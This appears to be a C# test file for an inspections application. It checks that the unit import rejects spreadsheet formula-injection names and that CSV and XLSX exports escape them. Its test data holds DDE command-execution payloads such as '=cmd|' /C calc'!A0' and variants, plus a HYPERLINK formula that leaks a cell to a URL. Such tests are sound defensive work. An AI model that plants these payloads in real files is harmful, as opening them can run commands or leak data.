using System.Text;
using System.Text.Json.Nodes;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using MatTran.Inspections.ReadModel.Units;
using MatTran.Inspections.Units;
using MatTran.Inspections.Validation;
using Microsoft.Extensions.DependencyInjection;

namespace MatTran.LocalHost.Tests.BadInput;

/// <summary>
/// Formula injection (<c>=cmd|' /C calc'!A0</c>) both ways: the units import refuses a name a spreadsheet would run
/// (422 <c>units.name.formula</c> on its line, nothing stored), and every export escapes one stored before that rule
/// existed — CSV with a leading <c>'</c>, XLSX as an inline string cell, never a formula.
/// </summary>
[TestClass]
public sealed class CsvFormulaTests
{
    private static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")",
    ];

    private static BadInputHost s_bad = null!;
    private static string s_planId = null!;
    private static string s_issuer = null!;

    public TestContext TestContext { get; set; } = null!;

    public static IEnumerable<object[]> ImportCases => Formulas.Select((_, i) => new object[] { i });

    public static IEnumerable<object[]> ExportCases =>
        from formula in Enumerable.Range(0, Formulas.Length)
        from scope in new[] { "plan", "year" }
        from format in new[] { "csv", "xlsx" }
        select new object[] { formula, scope, format };

    [ClassInitialize]
    public static async Task StoreFormulaUnitsAsync(TestContext context)
    {
        s_bad = await BadInputHost.GetAsync(context.CancellationToken);
        var host = s_bad.Host;
        var tree = await TestPlans.ImportTreeAsync(host, context.CancellationToken);
        // As an older import stored them, before names were checked for formulas: straight into the units table.
        var units = Formulas.Select((name, i) => new Unit($"{tree.Prefix}-f{i}", name, UnitLevel.Commune, tree.District, null)).ToList();
        await host.Services.GetRequiredService<UnitStore>().UpsertAsync(units, context.CancellationToken);
        var plan = TestPlans.Plan(tree);
        var inspections = plan["inspections"]!.AsArray();
        var template = inspections[1]!;
        inspections.Clear();
        foreach (var unit in units)
        {
            var visit = template.DeepClone().AsObject();
            visit["unitId"] = unit.Id;
            inspections.Add(visit);
        }

        using var created = await host.Client.SendAsync(ApiRequests.PostJson("api/plans", plan, "planner"), context.CancellationToken);
        Assert.AreEqual(201, (int)created.StatusCode, await created.Content.ReadAsStringAsync(context.CancellationToken));
        s_planId = (await created.ReadJsonAsync(context.CancellationToken)).GetProperty("id").GetString()!;
        s_issuer = tree.Province;
    }

    [TestMethod]
    [DynamicData(nameof(ImportCases))]
    public async Task The_import_refuses_a_name_a_spreadsheet_would_run(int formula)
    {
        var tree = new UnitTree();
        string name = Formulas[formula].Replace("\"", "\"\"", StringComparison.Ordinal);
        string csv = "id,name,level,parentId,email\r\n" +
                     $"{tree.Province},Ủy ban MTTQ tỉnh,Province,,\r\n" +
                     $"{tree.District},\"{name}\",District,{tree.Province},{BadInputHost.Email}\r\n";
        var request = ApiRequests.PostCsv("api/units/import", csv, "planner");
        await RefusalAssert.RefusedAsync(s_bad, request, 422, ValidationCodes.UnitNameFormula, TestContext.CancellationToken, field: "lines[3].name");
        using var units = await s_bad.Client.SendAsync(ApiRequests.Get("api/units", "planner"), TestContext.CancellationToken);
        Assert.DoesNotContain(tree.Prefix, await units.Content.ReadAsStringAsync(TestContext.CancellationToken), "a refused import stored a unit");
    }

    [TestMethod]
    [DynamicData(nameof(ExportCases))]
    public async Task Every_export_writes_a_stored_formula_as_text(int formula, string scope, string format)
    {
        string name = Formulas[formula];
        string path = scope == "plan"
            ? $"api/reports/plans/{s_planId}/export?dataset=inspections&format={format}"
            : $"api/reports/years/{TestPlans.FutureYear}/issuers/{s_issuer}/export?dataset=inspections&format={format}";
        using var response = await s_bad.Client.SendAsync(ApiRequests.Get(path, "planner"), TestContext.CancellationToken);
        Assert.AreEqual(200, (int)response.StatusCode, await response.Content.ReadAsStringAsync(TestContext.CancellationToken));
        byte[] bytes = await response.Content.ReadAsByteArrayAsync(TestContext.CancellationToken);
        if (format == "csv")
        {
            string csv = Encoding.UTF8.GetString(bytes);
            string escaped = "'" + name;
            string quoted = "\"" + escaped.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
            Assert.IsTrue(csv.Contains("," + quoted, StringComparison.Ordinal) || csv.Contains("," + escaped, StringComparison.Ordinal),
                $"the CSV does not hold {quoted}:\n{csv}");
            Assert.IsFalse(csv.Contains("," + name, StringComparison.Ordinal) || csv.Contains(",\"" + name, StringComparison.Ordinal),
                $"a cell of the CSV starts with the formula itself:\n{csv}");
        }
        else
        {
            using var stream = new MemoryStream(bytes);
            using var workbook = SpreadsheetDocument.Open(stream, isEditable: false);
            var cells = workbook.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Cell>().ToList();
            Assert.IsEmpty(cells.Where(c => c.CellFormula is not null), "an exported cell is a formula");
            // XML reads a CR in element text as LF (end-of-line handling), so that is how a reader sees it.
            var cell = cells.SingleOrDefault(c => c.InlineString?.InnerText == name.Replace('\r', '\n'));
            Assert.IsNotNull(cell, $"no text cell holds {name}");
            Assert.AreEqual(CellValues.InlineString, cell.DataType?.Value);
        }
    }
}
